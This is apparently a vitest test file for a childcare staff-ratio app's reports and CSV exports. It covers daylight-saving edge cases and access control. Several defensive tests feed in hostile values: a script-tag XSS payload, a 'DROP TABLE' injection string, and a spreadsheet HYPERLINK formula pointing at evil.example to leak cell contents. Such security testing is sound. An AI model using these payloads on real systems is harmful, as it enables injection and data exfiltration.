import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createPerson } from '../../src/db/people.js';
import { newId } from '../../src/db/rows.js';
import type { Deps } from '../../src/web/app.js';
import { signInAs, type Agent } from '../support/agent.js';
import { seedCenter, type SeededCenter } from '../support/builders.js';
import type { SeededDay } from '../support/day.js';
import type { TestClock } from '../support/deps.js';
import { seededApp, type App } from '../support/seeded-app.js';

let deps: Deps;
let clock: TestClock;
let app: App;
let seeded: SeededCenter;
let day: SeededDay;
let staff: Agent;
let director: Agent;
let close: () => Promise<void>;

beforeEach(async () => {
  // Tuesday 07:00 in Chicago.
  const world = await seededApp({ at: '2026-03-03T13:00:00Z', center: { name: 'Maple Test Center' }, day: true });
  ({ deps, clock, app, seeded, day, close } = world);
  await deps.db('centers').where({ id: seeded.center.id }).update({ license_number: 'LIC-4471' });
  staff = await world.signIn('staff');
  director = await world.signIn('director');
});
afterEach(() => close());

const reports = (query = '') => `/centers/${seeded.center.id}/reports${query}`;
const infants = (what: string) => `/centers/${seeded.center.id}/rooms/${seeded.rooms.infants.id}/${what}`;

/** 07:00 Maya arrives, 07:05 an infant; 10:32 Maya leaves (out of ratio); 10:51 the staff teacher arrives. */
async function tuesday() {
  await staff.submit(infants('arrivals'), { personId: day.maya.id });
  clock.set('2026-03-03T13:05:00Z');
  await staff.submit(infants('check-ins'), { childId: day.children.ada.id });
  clock.set('2026-03-03T16:32:00Z');
  await staff.submit(infants('departures'), { personId: day.maya.id });
  clock.set('2026-03-03T16:51:00Z');
  await staff.submit(infants('arrivals'), { personId: seeded.people.teacher.id });
  clock.set('2026-03-04T00:30:00Z'); // read that evening, 18:30
}

/** The CSV body as rows of raw lines (BOM removed), checking CRLF line ends on the way. */
function lines(text: string): string[] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const body = text.slice(1);
  expect(body.endsWith('\r\n')).toBe(true);
  return body.slice(0, -2).split('\r\n');
}

/** A hand-built status interval of a room, [startedAt, endedAt). */
async function historyRow(roomId: string, status: string, startedAt: string, endedAt: string | null, cause: string, counted = 1, required = 1, children = 2) {
  await deps.db('room_status_history').insert({
    id: newId(),
    center_id: seeded.center.id,
    room_id: roomId,
    status,
    started_at: startedAt,
    ended_at: endedAt,
    cause,
    required_staff: required,
    counted_staff: counted,
    children,
  });
}

describe('GET /centers/:centerId/reports', () => {
  it('shows the last 7 days up to today by default, with the center, its license number and the range in the printed header', async () => {
    const res = await director.get(reports());
    expect(res.status).toBe(200);
    expect(res.text).toContain('value="2026-02-25"');
    expect(res.text).toContain('value="2026-03-03"');
    const header = /<div class="report-page-header">([\s\S]*?)<\/div>/.exec(res.text)![1]!;
    expect(header).toContain('Maple Test Center');
    expect(header).toContain('License LIC-4471');
    expect(header).toContain('25 February 2026 to 3 March 2026');
    expect(res.text).toContain('<title>Report: Maple Test Center, 25 February 2026 to 3 March 2026 · Ratiowatch</title>');
  });

  it('lists every status change per room with its cause, in the center’s zone with the date', async () => {
    await tuesday();
    const res = await director.get(reports('?from=2026-03-03&to=2026-03-03'));
    expect(res.status).toBe(200);
    const section = res.text.slice(res.text.indexOf('id="history-heading"'), res.text.indexOf('id="cover-heading"'));
    const infantsTable = section.slice(section.indexOf('<h3>Infants'));
    const rows = [
      ...infantsTable.matchAll(
        /<span aria-hidden="true">[^<]+<\/span> ([^<]+)<\/span><\/td>\s*<td>([^<]+)<\/td><td>([^<]+)<\/td><td>([^<]+)<\/td><td class="num">([^<]+)<\/td><td class="num">([^<]+)<\/td><td>([^<]+)<\/td><td class="num">([^<]+)<\/td>/g,
      ),
    ].map((m) => m.slice(1, 9));
    // Status, from, to, cause; counted of required staff, present staff, children, group-size limit.
    expect(rows).toEqual([
      ['ok', 'Tue 3 Mar 2026, 07:00 CST', 'Tue 3 Mar 2026, 07:05 CST', `Teacher ${day.maya.displayName} arrived`, '1 of 0', '1', '0', 'none'],
      ['ok', 'Tue 3 Mar 2026, 07:05 CST', 'Tue 3 Mar 2026, 10:32 CST', 'child checked in', '1 of 1', '1', '1 (1 infant)', '8'],
      ['out of ratio', 'Tue 3 Mar 2026, 10:32 CST', 'Tue 3 Mar 2026, 10:51 CST', `Teacher ${day.maya.displayName} left`, '0 of 1', '0', '1 (1 infant)', '8'],
      ['ok', 'Tue 3 Mar 2026, 10:51 CST', 'still in force', `Teacher ${seeded.people.teacher.displayName} arrived`, '1 of 1', '1', '1 (1 infant)', '8'],
    ]);
    expect(section).toContain('4 intervals; 1 not compliant');
  });

  it('answers "was it in ratio at 10:40?" with the figures of the interval holding 10:40', async () => {
    await tuesday();
    const res = await director.get(reports(`?from=2026-03-03&to=2026-03-03&room=${seeded.rooms.infants.id}&date=2026-03-03&time=10:40`));
    const text = /<section class="history-answer[^"]*"[^>]*>([\s\S]*?)<\/section>/.exec(res.text)![1]!.replace(/<[^>]+>/g, '').replace(/\s+/g, ' ').trim();
    expect(text).toBe(
      `Was Infants in ratio at 10:40 on Tuesday 3 March 2026? No: ✕ out of ratio, from Tue 3 Mar 2026, 10:32 CST to Tue 3 Mar 2026, 10:51 CST. ` +
        `Cause: Teacher ${day.maya.displayName} left. 1 child (1 infant); 0 staff present, 0 counted of 1 required; group-size limit 8.`,
    );
  });

  it('lists staff presence intervals with room names and durations', async () => {
    await tuesday();
    const res = await director.get(reports('?from=2026-03-03&to=2026-03-03'));
    const section = res.text.slice(res.text.indexOf('id="presence-heading"'));
    expect(section).toContain(`<tr><td>${day.maya.displayName}</td><td>Teacher</td><td>Infants</td><td>Tue 3 Mar 2026, 07:00 CST</td><td>Tue 3 Mar 2026, 10:32 CST</td><td class="num">3 h 32 min</td></tr>`);
    expect(section).toContain(`<tr><td>${seeded.people.teacher.displayName}</td><td>Teacher</td><td>Infants</td><td>Tue 3 Mar 2026, 10:51 CST</td><td>still here</td>`);
  });

  it('leaves out what happened outside the range', async () => {
    await tuesday();
    const res = await director.get(reports('?from=2026-03-04&to=2026-03-05'));
    expect(res.status).toBe(200);
    // The open interval since 10:51 on the 3rd is still in force during the range; the closed ones are not.
    expect(res.text).not.toContain(`Teacher ${day.maya.displayName} left`);
    expect(res.text).toContain(`Teacher ${seeded.people.teacher.displayName} arrived`);
    expect(res.text).not.toContain(`<td>${day.maya.displayName}</td>`);
  });

  describe('range validation', () => {
    const fieldError = (html: string, field: string) => new RegExp(`<p class="error" id="${field}-error">([^<]*)</p>`).exec(html)?.[1];

    it('refuses a date that is not on the calendar, next to its field', async () => {
      const res = await director.get(reports('?from=2026-02-30&to=2026-03-03'));
      expect(res.status).toBe(422);
      expect(fieldError(res.text, 'from')).toBe('2026-02-30 is not a date on the calendar.');
      expect(res.text).not.toContain('id="history-heading"');
    });

    it('refuses text that is not a date, and a date sent twice', async () => {
      const bad = await director.get(reports('?from=last%20week&to=2026-03-03'));
      expect(bad.status).toBe(422);
      expect(fieldError(bad.text, 'from')).toBe('Enter a date as YYYY-MM-DD, for example 2026-03-02.');
      const twice = await director.get(reports('?from=2026-03-01&to=2026-03-02&to=2026-03-03'));
      expect(twice.status).toBe(422);
      expect(fieldError(twice.text, 'to')).toBe('Enter one end date.');
    });

    it('refuses an end before the start', async () => {
      const res = await director.get(reports('?from=2026-03-03&to=2026-03-02'));
      expect(res.status).toBe(422);
      expect(fieldError(res.text, 'to')).toBe('The end date must be on or after the start date.');
    });

    it('takes 366 days and refuses 367', async () => {
      expect((await director.get(reports('?from=2025-03-03&to=2026-03-03'))).status).toBe(200); // 366 days, both ends included
      const res = await director.get(reports('?from=2025-03-02&to=2026-03-03'));
      expect(res.status).toBe(422);
      expect(fieldError(res.text, 'to')).toBe('Choose at most 366 days: this range has 367.');
    });

    it('never answers 500 to hostile values', async () => {
      const cases: [string, number][] = [
        ['?from=%3Cscript%3Ealert(1)%3C/script%3E&to=9999-99-99', 422],
        [`?from=${'9'.repeat(10_000)}`, 422],
        ['?from=2026-03-01&from=2026-03-02', 422],
        ['?from[]=x', 200], // not a field of the form: the default range
        ['?to=0000-01-01', 422],
        ['?from=-2026-03-01', 422],
        ['?from=2026-03-08T02:30', 422],
        ['?room=%27%3B+DROP+TABLE+rooms&date=2026-02-31&time=99:99', 422],
        ['?room=&date=&time=%E2%80%AE12:00', 422],
      ];
      for (const [q, status] of cases) {
        const res = await director.get(reports(q));
        expect(res.status, q).toBe(status);
        expect(res.text).not.toContain('<script>alert');
      }
      const rooms = await deps.db('rooms').where({ center_id: seeded.center.id }).count({ n: '*' });
      expect(Number(rooms[0]?.n)).toBe(2);
    });
  });

  describe('was a room in ratio at a given time?', () => {
    const ask = (roomId: string, date: string, time: string) => director.get(reports(`?room=${roomId}&date=${date}&time=${encodeURIComponent(time)}`));
    const answer = (html: string) => /<section class="history-answer[^"]*"[^>]*>([\s\S]*?)<\/section>/.exec(html)?.[1]?.replace(/<[^>]+>/g, '').replace(/\s+/g, ' ').trim();

    beforeEach(async () => {
      const room = seeded.rooms.infants.id;
      // A Tuesday, by hand: ok from 07:00, out of ratio 10:32-10:51 (Chicago, CST = UTC-6).
      await historyRow(room, 'ok', '2026-03-03T13:00:00.000Z', '2026-03-03T16:32:00.000Z', 'Teacher Maya Lopez arrived');
      await historyRow(room, 'out_of_ratio', '2026-03-03T16:32:00.000Z', '2026-03-03T16:51:00.000Z', 'Teacher Maya Lopez left', 0, 1, 1);
      await historyRow(room, 'ok', '2026-03-03T16:51:00.000Z', '2026-03-08T07:00:00.000Z', 'Teacher Sam Rivera arrived');
      // Spring forward, Sunday 8 March: 02:00 CST becomes 03:00 CDT (08:00Z). Out of ratio from 03:15 CDT (08:15Z) to 03:45 CDT.
      await historyRow(room, 'at_limit', '2026-03-08T07:00:00.000Z', '2026-03-08T08:15:00.000Z', 'child checked in');
      await historyRow(room, 'out_of_ratio', '2026-03-08T08:15:00.000Z', '2026-03-08T08:45:00.000Z', 'Aide Lee left', 0, 1, 3);
      // Fall back, Sunday 1 November: 01:00-02:00 happens twice. Out of ratio from 01:45 CDT (06:45Z) to 01:15 CST (07:15Z).
      await historyRow(room, 'ok', '2026-11-01T05:00:00.000Z', '2026-11-01T06:45:00.000Z', 'child checked in');
      await historyRow(room, 'out_of_ratio', '2026-11-01T06:45:00.000Z', '2026-11-01T07:15:00.000Z', 'Teacher Kim left', 0, 1, 2);
      await historyRow(room, 'ok', '2026-11-01T07:15:00.000Z', null, 'Teacher Kim arrived');
      clock.set('2026-11-10T18:00:00Z');
      director = await signInAs(app, seeded.users.director); // the morning's session ended hours ago
    });

    it('answers no, with the status, its cause, its start and end, from the history', async () => {
      const res = await ask(seeded.rooms.infants.id, '2026-03-03', '10:40');
      expect(res.status).toBe(200);
      expect(answer(res.text)).toBe(
        'Was Infants in ratio at 10:40 on Tuesday 3 March 2026? No: ✕ out of ratio, from Tue 3 Mar 2026, 10:32 CST to Tue 3 Mar 2026, 10:51 CST. Cause: Teacher Maya Lopez left. 0 counted staff of 1 required, 1 child.',
      );
    });

    it('treats an interval as [start, end): a change at 10:32 answers for 10:32, and 10:31 is before it', async () => {
      expect(answer((await ask(seeded.rooms.infants.id, '2026-03-03', '10:32')).text)).toContain('No: ✕ out of ratio');
      expect(answer((await ask(seeded.rooms.infants.id, '2026-03-03', '10:31')).text)).toContain('Yes: ✓ ok, from Tue 3 Mar 2026, 07:00 CST to Tue 3 Mar 2026, 10:32 CST');
      expect(answer((await ask(seeded.rooms.infants.id, '2026-03-03', '10:51')).text)).toContain('Yes: ✓ ok, from Tue 3 Mar 2026, 10:51 CST');
    });

    it('says so when nothing was recorded then, and when the moment is still to come', async () => {
      expect(answer((await ask(seeded.rooms.infants.id, '2026-03-03', '06:59')).text)).toContain('Nothing was recorded for this room at that moment');
      expect(answer((await ask(seeded.rooms.infants.id, '2026-12-24', '10:00')).text)).toContain('That moment has not happened yet.');
    });

    it('on the spring-forward day, refuses a time the clocks skipped and reads times after it on daylight time', async () => {
      const gap = await ask(seeded.rooms.infants.id, '2026-03-08', '02:30');
      expect(gap.status).toBe(422);
      expect(gap.text).toContain('<p class="error" id="time-error">02:30 does not exist on 2026-03-08 in America/Chicago: the clocks moved forward an hour.</p>');
      expect(answer(gap.text)).toBeUndefined();
      expect(answer((await ask(seeded.rooms.infants.id, '2026-03-08', '01:59')).text)).toContain('Yes: ▲ at limit, from Sun 8 Mar 2026, 01:00 CST to Sun 8 Mar 2026, 03:15 CDT');
      expect(answer((await ask(seeded.rooms.infants.id, '2026-03-08', '03:30')).text)).toContain('No: ✕ out of ratio, from Sun 8 Mar 2026, 03:15 CDT to Sun 8 Mar 2026, 03:45 CDT. Cause: Aide Lee left.');
    });

    it('on the fall-back day, reads a repeated time as its first occurrence and says so', async () => {
      const first = answer((await ask(seeded.rooms.infants.id, '2026-11-01', '01:30')).text);
      expect(first).toContain('Yes: ✓ ok, from Sun 1 Nov 2026, 00:00 CDT to Sun 1 Nov 2026, 01:45 CDT');
      expect(first).toContain('01:30 happened twice that day (the clocks went back an hour): this is the first time, at 01:30 CDT.');
      expect(answer((await ask(seeded.rooms.infants.id, '2026-11-01', '01:50')).text)).toContain('No: ✕ out of ratio, from Sun 1 Nov 2026, 01:45 CDT to Sun 1 Nov 2026, 01:15 CST. Cause: Teacher Kim left.');
      expect(answer((await ask(seeded.rooms.infants.id, '2026-11-01', '02:30')).text)).toContain('Yes: ✓ ok, from Sun 1 Nov 2026, 01:15 CST to now (still in force)');
    });

    it('refuses a room of another center, a missing date and a bad time, each next to its field', async () => {
      const other = await seedCenter(deps.db);
      const res = await ask(other.rooms.infants.id, '', '25:00');
      expect(res.status).toBe(422);
      expect(res.text).toContain('<p class="error" id="room-error">Choose a room of this center.</p>');
      expect(res.text).toContain('<p class="error" id="date-error">Enter the date, as YYYY-MM-DD.</p>');
      expect(res.text).toContain('<p class="error" id="time-error">Enter a time as HH:mm, for example 10:40.</p>');
    });
  });
});

describe('GET /centers/:centerId/reports/*.csv', () => {
  it('downloads the ratio history with its columns, times in the zone with the date', async () => {
    await tuesday();
    const res = await director.get(reports('/ratio-history.csv?from=2026-03-03&to=2026-03-03')).buffer(true);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="ratio-history-2026-03-03-to-2026-03-03.csv"');
    const [header, ...rows] = lines(res.text);
    // The columns the file always had first, then the figures kept since: present staff, the limit, children per category of the pack.
    expect(header).toBe(
      'Room,Status,Status code,In ratio,Start (America/Chicago),End (America/Chicago),Cause,Counted staff,Required staff,Children,' +
        'Present staff,Group-size limit,Children: Infant,Children: Toddler,Children: Preschooler,Children: School-age',
    );
    expect(rows.filter((r) => r.startsWith('Infants,'))).toEqual([
      `Infants,ok,ok,yes,2026-03-03 07:00 CST,2026-03-03 07:05 CST,Teacher ${day.maya.displayName} arrived,1,0,0,1,none,0,0,0,0`,
      `Infants,ok,ok,yes,2026-03-03 07:05 CST,2026-03-03 10:32 CST,child checked in,1,1,1,1,8,1,0,0,0`,
      `Infants,out of ratio,out_of_ratio,no,2026-03-03 10:32 CST,2026-03-03 10:51 CST,Teacher ${day.maya.displayName} left,0,1,1,0,8,1,0,0,0`,
      `Infants,ok,ok,yes,2026-03-03 10:51 CST,,Teacher ${seeded.people.teacher.displayName} arrived,1,1,1,1,8,1,0,0,0`,
    ]);
  });

  it('quotes as RFC 4180 says and neutralises a display name a spreadsheet would run as a formula', async () => {
    await tuesday();
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    await deps.db('people').where({ id: day.maya.id }).update({ display_name: hostile });
    await deps.db('people').where({ id: seeded.people.teacher.id }).update({ display_name: 'Rivera, Sam "Sammy"\r\nsecond line' });
    const res = await director.get(reports('/presences.csv?from=2026-03-03&to=2026-03-03')).buffer(true);
    expect(res.status).toBe(200);
    const body = res.text.slice(1);
    expect(body.startsWith('Person,Role,Room,Start (America/Chicago),End (America/Chicago),Minutes\r\n')).toBe(true);
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",Teacher,Infants,2026-03-03 07:00 CST,2026-03-03 10:32 CST,212\r\n`);
    expect(body).toContain('"Rivera, Sam ""Sammy""\r\nsecond line",Teacher,Infants,2026-03-03 10:51 CST,,\r\n');
    // No cell anywhere starts with a formula character.
    expect(body).not.toMatch(/(^|,|\r\n)"?[=+\-@]/);
  });

  it('neutralises cells starting with +, -, @, a tab or a carriage return, in the ratio history too', async () => {
    const room = seeded.rooms.toddlers.id;
    await historyRow(room, 'ok', '2026-03-02T14:00:00.000Z', '2026-03-02T15:00:00.000Z', '+1 arrived');
    await historyRow(room, 'ok', '2026-03-02T15:00:00.000Z', '2026-03-02T16:00:00.000Z', '-2 left');
    await historyRow(room, 'ok', '2026-03-02T16:00:00.000Z', '2026-03-02T17:00:00.000Z', '@SUM(A1)');
    await historyRow(room, 'ok', '2026-03-02T17:00:00.000Z', '2026-03-02T18:00:00.000Z', '\tcmd');
    await historyRow(room, 'ok', '2026-03-02T18:00:00.000Z', null, '\rcmd');
    const res = await director.get(reports('/ratio-history.csv?from=2026-03-02&to=2026-03-02')).buffer(true);
    const causes = lines(res.text)
      .slice(1)
      .map((l) => l.split(',')[6]);
    expect(causes).toEqual(["'+1 arrived", "'-2 left", "'@SUM(A1)", "'\tcmd", `"'\rcmd"`]);
    // Rows written before the figures were kept leave those cells blank, rather than claiming zeros.
    expect(lines(res.text)[1]!.split(',').slice(7)).toEqual(['1', '1', '2', '', '', '', '', '', '']);
  });

  it('lists cover requests with who took them', async () => {
    const teacher = seeded.people.teacher;
    const requestId = newId();
    await deps.db('cover_requests').insert({
      id: requestId,
      center_id: seeded.center.id,
      room_id: seeded.rooms.infants.id,
      day: '2026-03-03',
      starts_at: '2026-03-03T21:00:00.000Z',
      ends_at: '2026-03-03T22:30:00.000Z',
      people_needed: 1,
      needs: 'teacher',
      trainings: 'aht,suid',
      reason: 'Short after 15:00',
      urgent: false,
      status: 'filled',
      version: 1,
      created_at: '2026-03-03T14:00:00.000Z',
      created_by_user_id: seeded.users.director.id,
      closed_at: null,
    });
    await deps.db('cover_claims').insert({
      id: newId(),
      cover_request_id: requestId,
      center_id: seeded.center.id,
      person_id: teacher.id,
      seat: 0,
      starts_at: '2026-03-03T21:00:00.000Z',
      ends_at: '2026-03-03T22:30:00.000Z',
      kind: 'claim',
      status: 'accepted',
      shift_id: null,
      created_at: '2026-03-03T14:10:00.000Z',
      created_by_user_id: seeded.users.staff.id,
      decided_at: '2026-03-03T14:10:00.000Z',
      decided_by_user_id: seeded.users.staff.id,
      closed_at: null,
    });
    clock.set('2026-03-04T00:30:00Z');
    const csv = await director.get(reports('/cover-requests.csv?from=2026-03-03&to=2026-03-03')).buffer(true);
    const [header, row] = lines(csv.text);
    expect(header).toBe(
      'Room,Window start (America/Chicago),Window end (America/Chicago),People needed,Outcome,Status code,Need help now,Reason,Requested by,Requested at (America/Chicago),Taken by',
    );
    const director_ = await deps.db('users').where({ id: seeded.users.director.id }).first('display_name');
    expect(row).toBe(
      `Infants,2026-03-03 15:00 CST,2026-03-03 16:30 CST,1,filled,filled,no,Short after 15:00,${director_.display_name},2026-03-03 08:00 CST,"${teacher.displayName}, 2026-03-03 15:00 CST to 2026-03-03 16:30 CST (claimed)"`,
    );
    const page = await director.get(reports('?from=2026-03-03&to=2026-03-03'));
    const section = page.text.slice(page.text.indexOf('id="cover-heading"'), page.text.indexOf('id="presence-heading"'));
    expect(section).toContain('<span aria-hidden="true">✓</span> filled');
    expect(section).toContain(`<li>${teacher.displayName}, 15:00–16:30 CST (claimed)</li>`);
  });

  it('answers 422 with the reason as text for a bad range, and 403 to staff', async () => {
    const res = await director.get(reports('/presences.csv?from=2026-03-05&to=2026-03-01'));
    expect(res.status).toBe(422);
    expect(res.headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(res.text).toBe('to: The end date must be on or after the start date.');
    expect((await staff.get(reports('/presences.csv'))).status).toBe(403);
  });

  it('shows an owner every report of a center of their organization, and another center’s director nothing', async () => {
    const owner = await signInAs(app, seeded.users.owner);
    expect((await owner.get(reports())).status).toBe(200);
    const other = await seedCenter(deps.db);
    const outsider = await signInAs(app, other.users.director);
    expect((await outsider.get(reports())).status).toBe(404);
    expect((await outsider.get(reports('/ratio-history.csv'))).status).toBe(404);
  });
});

describe('the person named in a report', () => {
  it('is named only by their display name: nothing else about them goes into the presence CSV', async () => {
    const aide = await createPerson(deps.db, { centerId: seeded.center.id, displayName: 'Aide Only', role: 'aide', birthDate: '2008-05-05', adultAttested: false, at: new Date('2026-03-01T12:00:00Z') });
    await deps.db('person_presences').insert({ id: newId(), center_id: seeded.center.id, room_id: seeded.rooms.toddlers.id, person_id: aide.id, started_at: '2026-03-02T15:00:00.000Z', ended_at: '2026-03-02T16:00:00.000Z' });
    const res = await director.get(reports('/presences.csv?from=2026-03-02&to=2026-03-02')).buffer(true);
    const body = res.text;
    expect(body).toContain('Aide Only,Aide,Toddlers,2026-03-02 09:00 CST,2026-03-02 10:00 CST,60');
    expect(body).not.toContain('2008-05-05');
  });
});
